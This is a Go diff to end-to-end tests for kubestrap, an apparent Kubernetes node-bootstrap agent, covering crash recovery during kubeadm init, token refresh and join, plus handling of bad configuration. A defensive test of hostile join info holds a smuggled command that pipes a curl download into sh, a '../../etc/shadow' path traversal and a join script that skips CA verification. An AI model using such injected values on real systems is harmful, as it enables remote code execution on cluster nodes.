@@ -4,10 +4,13 @@ package e2e
 
 import (
 	"encoding/json"
+	"errors"
 	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -15,6 +18,10 @@ import (
 )
 
 // Scenario 1: fresh bootstrap of 1 + 2 nodes by kubestrap, from user-data.
+// Under make e2e the control plane's first kubeadm init is crashed on
+// purpose (TestCrashInsideInit checks the recovery): here the control plane
+// must have one finished init, and the workers a clean bootstrap (one join,
+// no reset).
 func TestScenario1FreshBootstrap(t *testing.T) {
 	ns := nodes(t)
 	for _, name := range []string{"cp", "w1", "w2"} {
@@ -32,10 +39,17 @@ func TestScenario1FreshBootstrap(t *testing.T) {
 	if cp.Phase != state.PhasePublished || cp.InitializedAt.IsZero() || cp.TokenID == "" {
 		t.Errorf("cp state: phase %s, initializedAt %s, token %q", cp.Phase, cp.InitializedAt, cp.TokenID)
 	}
-	if n := countCalls(kubeadmCalls(t, "cp"), "init"); n != 1 {
-		t.Errorf("cp ran kubeadm init %d times, want 1", n)
+	wantInits := 1
+	if initCrash(t) != nil {
+		wantInits = 2 // the crashed one, then the one that finished
 	}
-	if !readyIn(notifications(t, "cp"), 1) {
+	if n := countCalls(kubeadmCalls(t, "cp"), "init"); n != wantInits {
+		t.Errorf("cp ran kubeadm init %d times, want %d", n, wantInits)
+	}
+	if n := countRuns(kubeadmRuns(agentLogLines(t, "cp")), "kubeadm init", func(r kubeadmRun) bool { return r.OK }); n != 1 {
+		t.Errorf("%d kubeadm init runs finished on cp, want 1", n)
+	}
+	if !readyIn(notifications(t, "cp"), unit(t, "cp").Starts) {
 		t.Errorf("cp agent sent no READY=1")
 	}
 	info, raw := joinObject(t)
@@ -56,8 +70,8 @@ func TestScenario1FreshBootstrap(t *testing.T) {
 		if st.Phase != state.PhaseJoined || st.JoinedAt.IsZero() {
 			t.Errorf("%s state: phase %s joinedAt %s", w, st.Phase, st.JoinedAt)
 		}
-		if n := countCalls(kubeadmCalls(t, w), "join"); n != 1 {
-			t.Errorf("%s ran kubeadm join %d times, want 1", w, n)
+		if j, r := countCalls(kubeadmCalls(t, w), "join"), countCalls(kubeadmCalls(t, w), "reset"); j != 1 || r != 0 {
+			t.Errorf("%s ran kubeadm join %d and reset %d times, want 1 and 0", w, j, r)
 		}
 		ns := notifications(t, w)
 		if !readyIn(ns, 1) {
@@ -106,6 +120,351 @@ func TestDemoApp(t *testing.T) {
 	}
 }
 
+// crashInsideInit is what hack/e2e/up.sh recorded when it killed the control
+// plane's first kubeadm init (E2E_CRASH_INIT=1, as make e2e runs it).
+type crashInsideInit struct {
+	KilledAt    time.Time `json:"killedAt"`
+	AgentPID    int       `json:"agentPid"`
+	AgentStart  int       `json:"agentStart"`
+	KubeadmPIDs []int     `json:"kubeadmPids"`
+	Trigger     string    `json:"trigger"`
+}
+
+func initCrash(t *testing.T) *crashInsideInit {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(runDir, "crash-inside-init.json"))
+	if errors.Is(err, os.ErrNotExist) {
+		return nil
+	}
+	var c crashInsideInit
+	if err == nil {
+		err = json.Unmarshal(b, &c)
+	}
+	if err != nil {
+		t.Fatalf("crash-inside-init.json: %v", err)
+	}
+	return &c
+}
+
+// Crash point "inside kubeadm init, after its kubeconfig phase", during the
+// cluster's own bootstrap: hack/e2e/up.sh watched the control-plane agent's
+// log for kubeadm's `[kubeconfig] Writing "admin.conf"` and then killed the
+// agent and every kubeadm process of the node with SIGKILL at once, as a
+// power loss would (the kubelet and the static pods kubeadm had started yet
+// went on). The service manager started the agent again.
+func TestCrashInsideInit(t *testing.T) {
+	c := initCrash(t)
+	if c == nil {
+		t.Skip("the control plane was booted without the crash (hack/e2e/up.sh with E2E_CRASH_INIT=0)")
+	}
+	if len(c.KubeadmPIDs) == 0 {
+		t.Fatalf("no kubeadm process was running when the agent was killed: %+v", c)
+	}
+	lines := agentLogLines(t, "cp")
+	runs := kubeadmRuns(lines)
+	// The kill landed inside the first process's kubeadm init, after admin.conf was written.
+	var first []kubeadmRun
+	for _, r := range runs {
+		if r.Proc == c.AgentStart {
+			first = append(first, r)
+		}
+	}
+	if len(first) != 1 || first[0].Command != "kubeadm init" || first[0].Finished {
+		t.Fatalf("the killed agent (process %d) ran %+v; want one kubeadm init that never finished", c.AgentStart, first)
+	}
+	wrote := false
+	for _, l := range lines {
+		if l.Proc == c.AgentStart && strings.Contains(l.Msg, `[kubeconfig] Writing "admin.conf"`) && !l.Time.After(c.KilledAt) {
+			wrote = true
+		}
+	}
+	if !wrote {
+		t.Errorf("no `[kubeconfig] Writing \"admin.conf\"` from the killed init before the kill")
+	}
+	// The restarted agent undid the unfinished init and initialized again,
+	// once; nothing ran kubeadm init or reset after that init finished.
+	var after []string
+	finishedAt := time.Time{}
+	for _, r := range runs {
+		if r.Proc <= c.AgentStart {
+			continue
+		}
+		if !finishedAt.IsZero() && (r.Command == "kubeadm init" || r.Command == "kubeadm reset") {
+			after = append(after, r.Command)
+		}
+		if r.Command == "kubeadm init" && r.OK && finishedAt.IsZero() {
+			finishedAt = r.End
+		}
+	}
+	if finishedAt.IsZero() {
+		t.Fatalf("no kubeadm init finished after the crash: %+v", runs)
+	}
+	if len(after) > 0 {
+		t.Errorf("kubeadm %v ran after the control plane was initialized", after)
+	}
+	if n := countRuns(runs, "kubeadm init", func(r kubeadmRun) bool { return r.OK }); n != 1 {
+		t.Errorf("%d kubeadm init runs finished, want exactly 1", n)
+	}
+	calls := kubeadmCalls(t, "cp")
+	var seq []string
+	for _, call := range calls {
+		if v := strings.Fields(call)[0]; v == "init" || v == "reset" {
+			seq = append(seq, v)
+		}
+	}
+	if strings.Join(seq, ",") != "init,reset,init" {
+		t.Errorf("cp kubeadm init/reset sequence %v, want [init reset init] (the interrupted init, its undo, the init)", seq)
+	}
+	interrupted := false
+	for _, l := range lines {
+		if l.Proc > c.AgentStart && strings.Contains(l.Msg, "was interrupted before it finished") {
+			interrupted = true
+		}
+	}
+	if !interrupted {
+		t.Errorf("the restarted agent did not say the init was interrupted")
+	}
+	st := agentState(t, "cp")
+	if !st.InitializedAt.After(c.KilledAt) || st.InitStartedAt.After(st.InitializedAt) {
+		t.Errorf("state: initStartedAt %s, initializedAt %s, killed at %s", st.InitStartedAt, st.InitializedAt, c.KilledAt)
+	}
+	// Join info: published only after the init finished, within one verify
+	// interval of it, valid, pinned to the cluster's CA.
+	pubs := []logLine{}
+	for _, l := range lines {
+		if l.Msg == "published join info" {
+			pubs = append(pubs, l)
+		}
+	}
+	if len(pubs) == 0 || pubs[0].Proc <= c.AgentStart || pubs[0].Time.Before(finishedAt) {
+		t.Fatalf("join info published before the control plane was initialized (or never): %+v", pubs)
+	}
+	if d := pubs[0].Time.Sub(finishedAt); d > verifyInterval {
+		t.Errorf("first publication %s after kubeadm init finished, want within %s", d, verifyInterval)
+	}
+	info, err := validJoinInfo(t)
+	if err != nil {
+		t.Fatalf("join.json: %v", err)
+	}
+	if h := caHash(t); len(info.CACertHashes) != 1 || info.CACertHashes[0] != h {
+		t.Errorf("join.json pins %v, the cluster's CA is %s", info.CACertHashes, h)
+	}
+	if unknown := unknownTokens(t, kubestrapTokens(t)); len(unknown) > 0 {
+		t.Errorf("kubestrap tokens that neither join.json nor state.json knows: %v", unknown)
+	}
+	// Workers joined the one cluster afterwards (scenario 1 checks them in full).
+	for _, w := range []string{"w1", "w2"} {
+		if st := agentState(t, w); st.JoinedAt.Before(c.KilledAt) || !nodes(t)[w].ready() {
+			t.Errorf("%s: joinedAt %s, Node ready %v", w, st.JoinedAt, nodes(t)[w].ready())
+		}
+	}
+}
+
+// Crash point "after token create": the control-plane agent is killed once
+// the kubeadm token create of a refresh finished and state.json records
+// the new token as pending, before join info for it is published. To land
+// the kill in that window, the control plane's PUTs of join.json are
+// refused (TCP reset) from before the refresh until just after the kill:
+// the agent sees S3 fail and keeps the token pending.
+func TestCrashAfterTokenCreate(t *testing.T) {
+	before := snapshot(t)
+	f := followAgentLog(t, "cp", false)
+	moto := followFile(t, filepath.Join(runDir, "logs", "moto.log"))
+	release := holdPublish(t, "requests")
+	f.waitFor(t, tokenTTL/2+30*time.Second, "the next refresh's kubeadm token create finished", isKubeadmFinished("kubeadm token create"))
+	var pending string
+	eventually(t, 10*time.Second, "state.json records the new token as pending", func() (bool, string) {
+		st := agentState(t, "cp")
+		pending = st.PendingTokenID
+		return pending != "", fmt.Sprintf("phase %s", st.Phase)
+	})
+	c := killAgent(t, "cp", false)
+	time.Sleep(500 * time.Millisecond) // what the killed agent's sockets still send meets the hold
+	release()
+	if len(c.Kubeadm) != 0 {
+		t.Fatalf("kubeadm %v was still running at the kill", c.Kubeadm)
+	}
+	if moto.contains(t, `"PUT /`+bucket+`/`+cluster+`/join.json`) {
+		t.Fatalf("moto received a PUT of join.json during the hold: the crash point was missed")
+	}
+	if info, _ := joinObject(t); info.TokenID() == pending {
+		t.Fatalf("join info for the pending token %s was published before the kill: the crash point was missed", pending)
+	}
+	if _, ok := kubestrapTokens(t)[pending]; !ok {
+		t.Fatalf("the pending token %s is not in the cluster", pending)
+	}
+
+	info := assertConverged(t, c, before)
+	// The token made before the crash was never published: the restarted
+	// agent deletes it (or publishes it).
+	if _, ok := kubestrapTokens(t)[pending]; ok && info.TokenID() != pending {
+		t.Errorf("the unpublished token %s is still in the cluster and not published", pending)
+	}
+	// The token that was published before the crash stays valid for
+	// workers that read it (grace or expiry), although it was superseded.
+	if info.TokenID() != before.st.TokenID {
+		supersededAt := time.Now()
+		for _, l := range agentLogLines(t, "cp") {
+			if l.Proc > c.Starts && l.Msg == "published join info" {
+				supersededAt = l.Time
+				break
+			}
+		}
+		assertKept(t, before.st.TokenID, supersededAt, before.st.TokenExpiresAt)
+	}
+	newWorkerJoins(t, "w7", info)
+}
+
+// Crash point "after publish", on both sides of the state write:
+//  1. join info for the new token is in S3 but the agent has not recorded
+//     it (the answer to the control plane's PUT is dropped: moto stores the
+//     object, the agent waits for the response) -- the restarted agent must
+//     adopt its own object, not treat it as a foreign writer's;
+//  2. right after the "published join info" log line (state written).
+//
+// After each: convergence, and the token the publication superseded stays
+// valid for its grace (a worker may be joining with it).
+func TestCrashAfterPublish(t *testing.T) {
+	// 1. Published, not recorded.
+	before := snapshot(t)
+	f := followAgentLog(t, "cp", false)
+	moto := followFile(t, filepath.Join(runDir, "logs", "moto.log"))
+	release := holdPublish(t, "responses")
+	f.waitFor(t, tokenTTL/2+30*time.Second, "the next refresh's kubeadm token create finished", isKubeadmFinished("kubeadm token create"))
+	moto.waitFor(t, 30*time.Second, "moto stored the control plane's PUT of join.json", `"PUT /`+bucket+`/`+cluster+`/join.json`)
+	c := killAgent(t, "cp", false)
+	release()
+	left := agentState(t, "cp")
+	published, _ := joinObject(t)
+	if published.TokenID() == left.TokenID || published.TokenID() != left.PendingTokenID {
+		t.Fatalf("missed the crash point: join.json has token %s; the killed agent recorded token %s, pending %s",
+			published.TokenID(), left.TokenID, left.PendingTokenID)
+	}
+	supersededAt := time.Now()
+	info := assertConverged(t, c, before)
+	if info.TokenID() != published.TokenID() || info.Generation != published.Generation {
+		t.Errorf("the restarted agent replaced its own publication (gen %d, %s) with gen %d, %s; want it adopted",
+			published.Generation, published.TokenID(), info.Generation, info.TokenID())
+	}
+	adopted, foreign := false, false
+	for _, l := range agentLogLines(t, "cp") {
+		if l.Proc <= c.Starts {
+			continue
+		}
+		adopted = adopted || (l.Msg == "adopting join info this node published before it restarted" && l.str("tokenID") == published.TokenID())
+		foreign = foreign || strings.Contains(l.Msg, "not the object this agent last wrote")
+	}
+	if !adopted || foreign {
+		t.Errorf("restarted agent: adopted its own join info %v, called it foreign %v; want adopted, not foreign", adopted, foreign)
+	}
+	assertKept(t, before.st.TokenID, supersededAt, before.st.TokenExpiresAt)
+
+	// 2. Right after the publication and the state write.
+	before = snapshot(t)
+	f = followAgentLog(t, "cp", false)
+	pub := f.waitFor(t, tokenTTL/2+30*time.Second, "the next \"published join info\"", func(l logLine) bool { return l.Msg == "published join info" })
+	c = killAgent(t, "cp", false)
+	if st := agentState(t, "cp"); st.TokenID != pub.str("tokenID") {
+		t.Fatalf("state.json names token %s, the publication %s", st.TokenID, pub.str("tokenID"))
+	}
+	info = assertConverged(t, c, before)
+	assertKept(t, before.st.TokenID, pub.Time, before.st.TokenExpiresAt)
+
+	newWorkerJoins(t, "w8", info)
+}
+
+// Worker crash point "inside kubeadm join": the agent alone is killed
+// (kubeadm goes on, as with a manual run or another supervisor); the
+// restarted agent waits for the orphaned kubeadm (the lock it inherited)
+// and ends joined, with that one join and no reset. A join here takes about
+// a second, less than the agent's restart, so the orphan is paused (SIGSTOP)
+// once it is an orphan, until the restarted agent is seen waiting for it,
+// then resumed: a kubeadm run that outlasts the restart (a slow discovery or
+// TLS bootstrap), made certain. (Paused only after the agent is gone: a
+// process group that becomes orphaned with a stopped member gets SIGHUP from
+// the kernel, and the agent leads kubeadm's process group.)
+func TestCrashWorkerInsideJoin(t *testing.T) {
+	const w = "w9"
+	bootNode(t, w)
+	f := followAgentLog(t, w, true)
+	first := f.waitFor(t, 2*time.Minute, "kubeadm join's first output line", func(l logLine) bool {
+		return l.str("command") == "kubeadm join" && l.Fields["kubeadmOutput"] == true
+	})
+	c := killAgent(t, w, false)
+	if len(c.Kubeadm) != 1 {
+		t.Fatalf("want one kubeadm child of the killed agent, found %v (first output %q)", c.Kubeadm, first.Msg)
+	}
+	orphan := c.Kubeadm[0]
+	for start := time.Now(); ; time.Sleep(2 * time.Millisecond) {
+		ppid, _, _, _, ok := procStat(orphan)
+		if !ok || ppid != c.AgentPID {
+			break
+		}
+		if time.Since(start) > 5*time.Second {
+			t.Fatalf("kubeadm %d still the child of the killed agent %d after 5s", orphan, c.AgentPID)
+		}
+	}
+	if err := syscall.Kill(orphan, syscall.SIGSTOP); err != nil {
+		t.Fatalf("the orphaned kubeadm %d is gone already: %v", orphan, err)
+	}
+	resumed := false
+	resume := func() {
+		if !resumed {
+			resumed = true
+			_ = syscall.Kill(orphan, syscall.SIGCONT)
+		}
+	}
+	t.Cleanup(resume)
+
+	// The restarted agent waits for the orphan and runs no kubeadm of its own.
+	want := fmt.Sprintf("waiting for a kubeadm run left by an earlier agent process (pid %d)", orphan)
+	eventually(t, time.Minute, "the restarted agent waiting for the orphaned kubeadm", func() (bool, string) {
+		u := unit(t, w)
+		return u.Starts > c.Starts && strings.Contains(u.Status, want), fmt.Sprintf("start %d, STATUS %q", u.Starts, u.Status)
+	})
+	time.Sleep(2 * time.Second)
+	if u := unit(t, w); u.Ready || !strings.Contains(u.Status, want) {
+		t.Errorf("while the orphan is paused the agent should keep waiting: ready %v, STATUS %q", u.Ready, u.Status)
+	}
+	if n := countCalls(kubeadmCalls(t, w), "join"); n != 1 {
+		t.Fatalf("%d kubeadm join runs while the orphaned one is paused, want 1", n)
+	}
+	resume()
+	// Follow the orphan to its end (bounded by the join timeout and its grace).
+	resumedAt, orphanEnd := time.Now(), time.Time{}
+	for time.Since(resumedAt) < 6*time.Minute {
+		if !alive(orphan) {
+			orphanEnd = time.Now()
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	if orphanEnd.IsZero() {
+		t.Fatalf("orphaned kubeadm %d still runs 6 minutes after it was resumed", orphan)
+	}
+	t.Logf("orphaned kubeadm join %d ended %s after it was resumed", orphan, orphanEnd.Sub(resumedAt).Round(10*time.Millisecond))
+	waitJoined(t, w, 3*time.Minute)
+
+	runs := kubeadmRuns(agentLogLines(t, w))
+	for _, r := range runs {
+		if r.Proc > c.Starts {
+			t.Errorf("the restarted agent ran %s at %s", r.Command, r.Start.Format("15:04:05.000"))
+		}
+	}
+	calls := kubeadmCalls(t, w)
+	if j, r := countCalls(calls, "join"), countCalls(calls, "reset"); j != 1 || r != 0 {
+		t.Errorf("%s ran kubeadm join %d and reset %d times (%v), want one join (the orphan's) and no reset", w, j, r, calls)
+	}
+	st := agentState(t, w)
+	if st.Phase != state.PhaseJoined || !st.JoinedAt.After(c.At) {
+		t.Errorf("%s: phase %s joinedAt %s", w, st.Phase, st.JoinedAt)
+	}
+	// The JoinConfiguration (it holds the token secret) is not left behind.
+	if _, err := os.Stat(filepath.Join(nodeDir(w), "kubestrap", "kubeadm-join.yaml")); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("kubeadm-join.yaml left in the state directory: %v", err)
+	}
+}
+
 // publishedEntries are the control plane's "published join info" log entries.
 type published struct {
 	TokenID    string
@@ -131,17 +490,23 @@ func publications(t *testing.T) []published {
 }
 
 // Scenario 2: a worker booted after the first token expired (tokenTTL 2m in
-// the test config) joins with the refreshed join info.
+// the test config) joins with the refreshed join info. The agent does not
+// delete a superseded token right after a refresh (it keeps it for
+// pollInterval + joinTimeout, here beyond the token's life, so it is left to
+// expire): the cluster's token cleaner removes it once expired.
 func TestScenario2WorkerBootedAfterFirstTokenExpired(t *testing.T) {
 	pubs := publications(t)
 	if len(pubs) == 0 || pubs[0].ExpiresAt.IsZero() {
 		t.Fatalf("no publication in the control plane's log: %+v", pubs)
 	}
 	first := pubs[0]
-	sleepUntil(t, first.ExpiresAt.Add(3*time.Second), fmt.Sprintf("first token %s expires at %s", first.TokenID, first.ExpiresAt.Format(time.RFC3339)))
-	if _, ok := tokens(t)[first.TokenID]; ok {
-		t.Errorf("expired first token %s is still in kubeadm token list", first.TokenID)
-	}
+	sleepUntil(t, first.ExpiresAt, fmt.Sprintf("first token %s expires at %s", first.TokenID, first.ExpiresAt.Format(time.RFC3339)))
+	// kubeadm init gives the first token its 2m from when the token is
+	// created, a few seconds after the expiry join.json states.
+	eventually(t, 30*time.Second, "the expired first token "+first.TokenID+" gone from kubeadm token list", func() (bool, string) {
+		tok, ok := tokens(t)[first.TokenID]
+		return !ok, fmt.Sprintf("listed, expires %s", tok.Expires.Format(time.RFC3339))
+	})
 	if info, _ := joinObject(t); info.TokenID() == first.TokenID || !info.ExpiresAt.After(time.Now()) {
 		t.Fatalf("join.json was not refreshed: token %s expires %s", info.TokenID(), info.ExpiresAt)
 	}
@@ -161,6 +526,8 @@ func TestScenario2WorkerBootedAfterFirstTokenExpired(t *testing.T) {
 // has expired; a new worker waits and says why; the agent comes back,
 // publishes, and the worker joins.
 func TestScenario3ControlPlaneAgentDownPastExpiry(t *testing.T) {
+	calls := kubeadmCalls(t, "cp")
+	inits, resets := countCalls(calls, "init"), countCalls(calls, "reset")
 	systemctl(t, "cp", "stop", "kubestrap")
 	if u := unit(t, "cp"); u.Active != "inactive" {
 		t.Fatalf("cp kubestrap unit is %s after stop", u.Active)
@@ -185,8 +552,9 @@ func TestScenario3ControlPlaneAgentDownPastExpiry(t *testing.T) {
 	if !readyIn(notifications(t, "cp"), before+1) {
 		t.Errorf("cp agent sent no READY=1 after coming back")
 	}
-	if n := countCalls(kubeadmCalls(t, "cp"), "init"); n != 1 {
-		t.Errorf("cp ran kubeadm init %d times, want 1", n)
+	calls = kubeadmCalls(t, "cp")
+	if i, r := countCalls(calls, "init"), countCalls(calls, "reset"); i != inits || r != resets {
+		t.Errorf("cp kubeadm init %d -> %d, reset %d -> %d; want no second init and no reset", inits, i, resets, r)
 	}
 	waitJoined(t, "w4", 3*time.Minute)
 	if st := agentState(t, "w4"); st.JoinGeneration <= stale.Generation {
@@ -326,20 +694,23 @@ func TestScenario6HostileJoinInfoRefused(t *testing.T) {
 		b, _ := json.Marshal(m)
 		return b
 	}()
+	// The last object stays in place when the control plane comes back: it
+	// is well-formed JSON for this cluster and names the control plane's
+	// live token, so only its content tells it is not the control plane's.
 	cases := []struct {
 		name string
 		body []byte
 		want string // in the refusal STATUS
 	}{
-		{"shell command in the endpoint", with("apiServerEndpoint", "10.200.0.10:6443; curl -s http://10.200.0.2/x | sh"), "apiServerEndpoint"},
+		{"oversize", with("apiServerEndpoint", strings.Repeat("a", 70<<10)), "larger than"},
+		{"a shell script", []byte("#!/bin/sh\nkubeadm join 10.200.0.2:6443 --token abcdef.0123456789abcdef --discovery-token-unsafe-skip-ca-verification\n"), "not valid join info JSON"},
+		{"extra field", with("command", "kubeadm join --discovery-token-unsafe-skip-ca-verification"), "not valid join info JSON"},
 		{"another cluster", with("cluster", "prod"), "cluster"},
 		{"malformed token", with("token", "../../etc/shadow"), "token"},
 		{"bad CA pin", with("caCertHashes", []string{"md5:0123"}), "caCertHashes"},
 		{"no CA pin", with("caCertHashes", []string{}), "caCertHashes"},
 		{"expired token", expired, "expired"},
-		{"extra field", with("command", "kubeadm join --discovery-token-unsafe-skip-ca-verification"), "not valid join info JSON"},
-		{"a shell script", []byte("#!/bin/sh\nkubeadm join 10.200.0.2:6443 --token abcdef.0123456789abcdef --discovery-token-unsafe-skip-ca-verification\n"), "not valid join info JSON"},
-		{"oversize", with("apiServerEndpoint", strings.Repeat("a", 70<<10)), "larger than"},
+		{"shell command in the endpoint", with("apiServerEndpoint", "10.200.0.10:6443; curl -s http://10.200.0.2/x | sh"), "apiServerEndpoint"},
 	}
 	waiting := []string{"w5", "w6"}
 	for i, c := range cases {
@@ -372,9 +743,27 @@ func TestScenario6HostileJoinInfoRefused(t *testing.T) {
 		}
 	}
 
-	// The control plane comes back, finds a foreign join.json and replaces it.
+	// The control plane comes back, finds a foreign join.json and replaces
+	// it before it reports READY (systemctl start returns at READY=1): the
+	// hostile object names the control plane's live token, but it is not
+	// join info the control plane wrote.
+	starts := unit(t, "cp").Starts
 	systemctl(t, "cp", "start", "kubestrap")
-	info, _ := joinObject(t)
+	adopted, replaced := false, false
+	for _, l := range agentLogLines(t, "cp") {
+		if l.Proc > starts {
+			adopted = adopted || strings.HasPrefix(l.Msg, "adopting join info")
+			replaced = replaced || strings.Contains(l.Msg, "not the object this agent last wrote; replacing it")
+		}
+	}
+	if adopted || !replaced {
+		t.Errorf("control plane back: adopted the hostile join.json as its own %v, replaced it as foreign %v; want not adopted, replaced",
+			adopted, replaced)
+	}
+	info, err := validJoinInfo(t)
+	if err != nil {
+		t.Fatalf("join.json once the control-plane agent is back and READY: %v", err)
+	}
 	if cp := agentState(t, "cp"); info.Generation != cp.JoinGeneration || info.TokenID() != cp.TokenID {
 		t.Fatalf("join.json (gen %d, %s) is not the control plane's (gen %d, %s)",
 			info.Generation, info.TokenID(), cp.JoinGeneration, cp.TokenID)
@@ -391,5 +780,76 @@ func TestScenario6HostileJoinInfoRefused(t *testing.T) {
 		if n := countCalls(kubeadmCalls(t, w), "join"); n != 1 {
 			t.Errorf("%s ran kubeadm join %d times, want 1", w, n)
 		}
+	}
+}
+
+// Scenario 7: a configuration that cannot work on this node (kubeadm.path
+// is not an executable here): `kubestrap validate` and `kubestrap run` exit
+// 2 naming the field, and the service manager leaves the unit failed instead
+// of restarting it (the unit's RestartPreventExitStatus=2). Once the file is
+// fixed, `systemctl restart` brings the agent back; the node stays joined.
+func TestScenario7BadConfigNotRestarted(t *testing.T) {
+	const n = "w2"
+	const good, bad = "path: /usr/bin/kubeadm", "path: /usr/bin/kubeadm-missing"
+	edit := func(from, to string) {
+		t.Helper()
+		if out, err := inNode(n, "sed", "-i", "s#^  "+from+"$#  "+to+"#", "/etc/kubestrap/config.yaml"); err != nil {
+			t.Fatalf("edit the config on %s: %v\n%s", n, err, out)
+		}
+		b, err := os.ReadFile(filepath.Join(nodeDir(n), "etc", "upper", "kubestrap", "config.yaml"))
+		if err != nil || !strings.Contains(string(b), "  "+to+"\n") {
+			t.Fatalf("config on %s not edited (%v):\n%s", n, err, b)
+		}
+	}
+	exitCode := func(err error) int {
+		var ee *exec.ExitError
+		if errors.As(err, &ee) {
+			return ee.ExitCode()
+		}
+		return 0
+	}
+	edit(good, bad)
+	fixed := false
+	t.Cleanup(func() {
+		if !fixed {
+			edit(bad, good)
+			systemctl(t, n, "restart", "kubestrap")
+		}
+	})
+	out, err := inNode(n, "kubestrap", "validate", "--config", "/etc/kubestrap/config.yaml")
+	if exitCode(err) != 2 || !strings.Contains(out, "kubeadm.path") {
+		t.Errorf("kubestrap validate: exit %d (%v), want 2 naming kubeadm.path:\n%s", exitCode(err), err, out)
+	}
+
+	joins := countCalls(kubeadmCalls(t, n), "join")
+	before := unit(t, n)
+	if out, err := script("node.sh", "systemctl", n, "restart", "kubestrap"); err == nil {
+		t.Errorf("systemctl restart with the bad configuration succeeded:\n%s", out)
+	}
+	u := unit(t, n)
+	if u.Active != "failed" || u.LastExit != "exit status 2" || u.Starts != before.Starts+1 {
+		t.Fatalf("unit after the restart: %s, last exit %q, starts %d -> %d; want failed, exit status 2, one start",
+			u.Active, u.LastExit, before.Starts, u.Starts)
+	}
+	if !strings.Contains(agentLog(t, n), "kubeadm.path") {
+		t.Errorf("the agent's error does not name kubeadm.path")
+	}
+	time.Sleep(3 * 2 * time.Second) // three RestartSec
+	if u := unit(t, n); u.Active != "failed" || u.Starts != before.Starts+1 {
+		t.Errorf("unit restarted after exit 2: %s, starts %d", u.Active, u.Starts)
+	}
+
+	edit(bad, good)
+	fixed = true
+	systemctl(t, n, "restart", "kubestrap") // returns at READY=1
+	u = unit(t, n)
+	if !u.Ready || !readyIn(notifications(t, n), u.Starts) {
+		t.Errorf("agent not READY after the fix: %+v", u)
+	}
+	if j := countCalls(kubeadmCalls(t, n), "join"); j != joins {
+		t.Errorf("kubeadm join ran %d more times; the node was joined", j-joins)
+	}
+	if nd := nodes(t)[n]; !nd.ready() {
+		t.Errorf("Node %s not Ready", n)
 	}
 }
